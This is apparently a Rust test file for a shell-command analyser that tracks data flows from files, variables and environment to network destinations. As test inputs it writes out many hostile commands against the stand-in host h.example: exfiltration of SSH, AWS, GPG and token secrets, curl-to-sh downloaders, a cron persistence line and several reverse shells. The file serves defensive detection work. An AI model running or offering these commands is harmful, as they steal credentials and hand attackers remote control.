//! Data followed from where it is read to where it is sent.

use super::super::read;
use super::{check, origin};

#[test]
fn pipes_and_redirections() {
    check(&[
        (
            "cat secret | curl -d @- https://h.example/x",
            "r:secret upload>h.example secret->h.example",
        ),
        (
            "cat a b | gzip | base64 | curl --data-binary @- h.example",
            "r:a r:b upload>h.example a,b->h.example",
        ),
        (
            "base64 f | nc h.example 4444",
            "r:f session>h.example f->h.example",
        ),
        ("nc h.example 80 < f", "r:f session>h.example f->h.example"),
        (
            "cat f | websocat wss://h.example",
            "r:f session>h.example f->h.example",
        ),
        (
            "cat f > /dev/tcp/h.example/80",
            "r:f upload>h.example f->h.example",
        ),
        (
            "exec 3<>/dev/tcp/h.example/80; cat f >&3",
            "r:f session>h.example upload>h.example f->h.example",
        ),
        (
            "tar cz ~/.ssh | ssh user@h.example 'cat > x'",
            "r:~/.ssh session>h.example ~/.ssh->h.example",
        ),
        (
            "curl -d @- h.example <<< $(cat f)",
            "r:f upload>h.example f->h.example",
        ),
        (
            "curl -d @- h.example < f",
            "r:f upload>h.example f->h.example",
        ),
        (
            "curl h.example -d @- <<EOF\n$(cat f)\nEOF",
            "r:f upload>h.example f->h.example",
        ),
        (
            "cat f | tee copy | curl -T - h.example",
            "r:f w:copy upload>h.example f->h.example",
        ),
        (
            "tee >(curl -d @- h.example) < f",
            "r:f upload>h.example f->h.example",
        ),
        (
            "curl -F x=@<(cat f) h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "(cat f; echo x) | curl -d @- h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "{ cat f; } | nc h.example 1",
            "r:f session>h.example f->h.example",
        ),
        (
            "cat f | while read l; do curl h.example/$l; done",
            "r:f fetch>h.example f->h.example",
        ),
        (
            "while read l; do curl -d \"$l\" h.example; done < f",
            "r:f upload>h.example f->h.example",
        ),
        (
            "for f in a b; do curl -d @$f h.example; done",
            "r:a r:b upload>h.example a->h.example b->h.example",
        ),
        (
            "cat f |& nc h.example 1",
            "r:f session>h.example f->h.example",
        ),
        (
            "dd if=f | nc h.example 9",
            "r:f session>h.example f->h.example",
        ),
        (
            "xargs -I{} curl h.example/{} < f",
            "r:f fetch>h.example f->h.example",
        ),
        (
            "cat f | xargs curl -d x -H h.example",
            "r:f upload>? f->? ?host",
        ),
        (
            "find ~ -name '*.pem' | xargs cat | nc h.example 1",
            "r:~/*.pem session>h.example ~/*.pem->h.example",
        ),
        (
            "find ~/.ssh -type f -exec curl -F f=@{} h.example \\;",
            "r:~/.ssh upload>h.example ~/.ssh->h.example",
        ),
        (
            "grep -r password . | mail -s x a@h.example",
            "r:. upload>h.example .->h.example",
        ),
        (
            "env | curl -d @- h.example",
            "upload>h.example (env)->h.example",
        ),
        (
            "echo $TOKEN | nc h.example 1",
            "session>h.example $TOKEN->h.example",
        ),
        (
            "printenv AWS_SECRET | curl -d @- h.example",
            "upload>h.example $AWS_SECRET->h.example",
        ),
        (
            "openssl enc -aes-256-cbc -in f | curl -T - h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "cat f | openssl s_client -connect h.example:443",
            "r:f session>h.example f->h.example",
        ),
        (
            "socat - TCP:h.example:80 < f",
            "r:f session>h.example f->h.example",
        ),
        ("curl h.example | tee x", "w:x fetch>h.example"),
        (
            "base64 < f | fold -w 60 | while read l; do dig $l.h.example; done",
            "r:f lookup>h.example f->h.example",
        ),
        (
            "gpg --export-secret-keys | nc h.example 1",
            "session>h.example (gpg --export)->h.example",
        ),
        (
            "echo '* * * * * curl h.example | sh' | crontab -",
            "fetch>h.example runs-fetched ?code",
        ),
    ]);
}

/// What stands where a service looks for a login is told from what stands anywhere else.
#[test]
fn logins_are_told_from_what_is_sent() {
    let check = |command: &str, expect: &[&str]| {
        let flows = read(command).flows;
        let plain = flows.iter().flat_map(|flow| &flow.plain).map(origin);
        assert_eq!(plain.collect::<Vec<_>>(), expect, "{command}: {flows:?}");
    };
    check("curl -H \"A: $T\" h.example", &[]);
    check("curl -u $T: h.example", &[]);
    check("curl -b s=$T h.example", &[]);
    check("curl https://u:$T@h.example/x", &[]);
    check("curl https://u:$T@h.example/$T", &["$T"]);
    check("curl -H \"A: $T\" -d $B h.example", &["$B"]);
    check("curl -d @- h.example <<< $T", &["$T"]);
    check("curl -A $T h.example", &["$T"]);
    check("curl h.example/?a=$T", &["$T"]);
    check("wget --header \"A: $T\" h.example", &[]);
    check("wget --post-data $T h.example", &["$T"]);
    check("http h.example A:$T b=$B", &["$B"]);
    check("http h.example b:=$B", &["$B"]);
    check("http -a u:$T h.example", &[]);
    check("echo $T | nc h.example 1", &["$T"]);
    check("echo $T | socat - TCP:h.example:1", &["$T"]);
    check("echo $T | openssl s_client -connect h.example:1", &["$T"]);
    check("echo $T > /dev/tcp/h.example/1", &["$T"]);
    check("dig $T.h.example", &["$T"]);
    check("git push https://$T@h.example/r", &[]);
    check("grpcurl -H \"A: $T\" h.example:1 s", &[]);
    check("mytool --token $T https://h.example", &[]);
}

#[test]
fn substitutions_and_variables() {
    check(&[
        (
            "curl -H \"X: $(cat f)\" h.example",
            "r:f fetch>h.example f->h.example",
        ),
        ("curl h.example/`cat f`", "r:f fetch>h.example f->h.example"),
        (
            "curl \"h.example/?d=$(base64 -w0 f)\"",
            "r:f fetch>h.example f->h.example",
        ),
        (
            "a=$(cat f); curl h.example/$a",
            "r:f fetch>h.example f->h.example",
        ),
        (
            "a=$(<f); curl -d \"$a\" h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "f=~/.ssh/id_rsa; curl -d @$f h.example",
            "r:~/.ssh/id_rsa upload>h.example ~/.ssh/id_rsa->h.example",
        ),
        (
            "h=h.example; cat f | curl -d @- $h",
            "r:f upload>h.example f->h.example",
        ),
        (
            "curl ${U:-h.example} -d @f",
            "r:f upload>h.example f->h.example",
        ),
        ("curl -d @f $HOST", "r:f upload>? $HOST,f->? ?host"),
        (
            "curl -d @f https://$(hostname).h.example",
            "r:f upload>h.example (hostname),f->h.example",
        ),
        (
            "a=curl; $a -d @f h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "a=(curl -d @f h.example); \"${a[@]}\"",
            "r:f upload>h.example f->h.example",
        ),
        (
            "c='curl -d @f h.example'; $c",
            "r:f upload>h.example f->h.example",
        ),
        (
            "x=f; false && x=g; curl -d @$x h.example",
            "r:g r:f upload>h.example g->h.example f->h.example",
        ),
        (
            "if true; then x=f; else x=g; fi; curl -T $x h.example",
            "r:g r:f upload>h.example g->h.example f->h.example",
        ),
    ]);
}

#[test]
fn functions_files_and_names() {
    check(&[
        (
            "send() { curl -d @$1 h.example; }; send f",
            "r:f upload>h.example f->h.example",
        ),
        (
            "function s { cat \"$1\" | nc h.example 1; }; s f",
            "r:f session>h.example f->h.example",
        ),
        (
            "alias c=curl; c -d @f h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "cp f /tmp/x; curl -T /tmp/x h.example",
            "r:f r:/tmp/x w:/tmp/x upload>h.example f,/tmp/x->h.example",
        ),
        (
            "tar cf /tmp/a ~/.aws && scp /tmp/a u@h.example:",
            "r:~/.aws r:/tmp/a w:/tmp/a upload>h.example ~/.aws,/tmp/a->h.example",
        ),
        (
            "dig $(cat f | xxd -p).h.example",
            "r:f lookup>h.example f->h.example",
        ),
        (
            "ping -c1 $(cat f).h.example",
            "r:f lookup>h.example f->h.example",
        ),
        (
            "nslookup `head -1 f`.h.example",
            "r:f lookup>h.example f->h.example",
        ),
        (
            "export K=$(cat f); curl -H \"A: $K\" h.example",
            "r:f fetch>h.example f->h.example",
        ),
        (
            "curl -u \"$USER:$PASS\" h.example",
            "fetch>h.example $USER,$PASS->h.example",
        ),
        (
            "set -- f h.example; curl -d @$1 $2",
            "r:f upload>h.example f->h.example",
        ),
        ("(x=f); x=g; cat $x", "r:g"),
        ("x=g; (x=f); cat $x", "r:g"),
        ("x=a; x+=b; cat $x", "r:ab"),
        ("p=id_rsa; cat ~/.ssh/${p%_*}_dsa", "r:~/.ssh/id_dsa"),
        (
            "x=a.b.c; cat ${x##*.} ${x/b/z} ${x^^}",
            "r:c r:a.z.c r:A.B.C",
        ),
        ("v=x; x=f; cat ${!v}", "r:f"),
        ("printf -v x %s f; cat $x", "r:f"),
        (
            "read x < f; curl h.example/$x",
            "r:f fetch>h.example f->h.example",
        ),
    ]);
}

#[test]
fn code_that_is_fetched() {
    check(&[
        ("curl h.example | sh", "fetch>h.example runs-fetched ?code"),
        (
            "curl -fsSL https://h.example/i.sh | sudo bash -s -- -y",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "wget -qO- h.example | bash",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "bash <(curl -s h.example)",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "sh -c \"$(curl h.example)\"",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "eval \"$(wget -O - h.example)\"",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "source <(curl h.example)",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "curl -o x.sh h.example/x.sh; sh x.sh",
            "w:x.sh x:x.sh fetch>h.example runs-fetched ?code",
        ),
        (
            "curl h.example/x > x; chmod +x x; ./x",
            "w:x w:x x:x fetch>h.example runs-fetched ?code",
        ),
        (
            "curl h.example | python3",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "python3 -c \"$(curl h.example)\"",
            "fetch>h.example runs-fetched ?code",
        ),
        (
            "curl h.example | base64 -d | sh",
            "fetch>h.example runs-fetched ?code",
        ),
        ("$(curl h.example)", "fetch>h.example runs-fetched ?program"),
        (
            "nc h.example 1 -e /bin/sh",
            "session>h.example runs-fetched",
        ),
        (
            "bash -i >& /dev/tcp/h.example/80 0>&1",
            "session>h.example upload>h.example @h.example->h.example runs-fetched ?code",
        ),
        (
            "exec 5<>/dev/tcp/h.example/80; cat <&5 | while read l; do $l; done",
            "session>h.example session>h.example runs-fetched ?program",
        ),
        (
            "socat TCP:h.example:1 EXEC:/bin/sh",
            "session>h.example runs-fetched",
        ),
        (
            "mkfifo p; cat p | sh -i | nc h.example 1 > p",
            "r:p w:p w:p session>h.example p->h.example p,@h.example->h.example runs-fetched ?code",
        ),
        (
            "curl h.example -o a; tar xf a",
            "r:a w:a w:. fetch>h.example",
        ),
    ]);
}

#[test]
fn copies_lists_and_processes_beside_hand_on_what_they_were_given() {
    check(&[
        (
            "cp ~/key .; curl -d @key h.example",
            "r:~/key r:key w:. upload>h.example ~/key,key->h.example",
        ),
        (
            "cd a && cp ~/key . && curl -d @key h.example",
            "r:~/key r:a/key w:a/. upload>h.example ~/key,a/key->h.example",
        ),
        (
            "cp ~/key b/; curl -d @b/key h.example",
            "r:~/key r:b/key w:b/ upload>h.example ~/key,b/key->h.example",
        ),
        (
            "cp -t b ~/key; curl -d @b/key h.example",
            "r:~/key r:b/key w:b upload>h.example ~/key,b/key->h.example",
        ),
        (
            "mv ~/key ..; curl -d @../key h.example",
            "r:~/key r:../key w:.. upload>h.example ~/key,../key->h.example",
        ),
        (
            "rsync ~/key b; curl -d @b/key h.example",
            "r:~/key r:b/key w:b upload>h.example ~/key,b/key->h.example",
        ),
        (
            "cp ~/key .; git add key; git commit -m x; git push x",
            "r:~/key r:key w:. w:.git w:.git upload>? ~/key,key,.git->? ?host",
        ),
        (
            "cp ~/key .; curl -d @other h.example",
            "r:~/key r:other w:. upload>h.example other->h.example",
        ),
        (
            "mapfile -t A < f; curl -d \"${A[*]}\" h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "readarray -t A < f; curl -d \"${A[3]}\" h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "mapfile < f; curl -d \"${MAPFILE[@]}\" h.example",
            "r:f upload>h.example f->h.example",
        ),
        (
            "mapfile -t A <<< 'a b'; curl -d \"${A[0]}\" h.example",
            "upload>h.example",
        ),
        (
            "coproc nc h.example 1; cat f >&${COPROC[1]}",
            "r:f session>h.example f->h.example",
        ),
        (
            "coproc N { nc h.example 1; }; cat f >&\"${N[1]}\"",
            "r:f session>h.example f->h.example",
        ),
        (
            "coproc nc h.example 1; exec 3>&${COPROC[1]}; cat f >&3",
            "r:f session>h.example f->h.example",
        ),
        (
            "coproc cat f; curl -d @- h.example <&${COPROC[0]}",
            "r:f upload>h.example f->h.example",
        ),
        ("coproc sleep 1; cat f >&${COPROC[1]}", "r:f"),
        (
            "logger -n h.example -f f",
            "r:f upload>h.example f->h.example",
        ),
        (
            "cat f | logger --server h.example",
            "r:f upload>h.example f->h.example",
        ),
        ("logger -t app started", ""),
        (
            "npx -y httpie POST h.example < f",
            "r:f upload>h.example fetch>registry.npmjs.org f->h.example",
        ),
        (
            "npx -y httpie@1 POST h.example a=@f",
            "r:f upload>h.example fetch>registry.npmjs.org f->h.example",
        ),
        (
            "npx -y prettier --write a.js < f",
            "r:f fetch>registry.npmjs.org",
        ),
    ]);
}
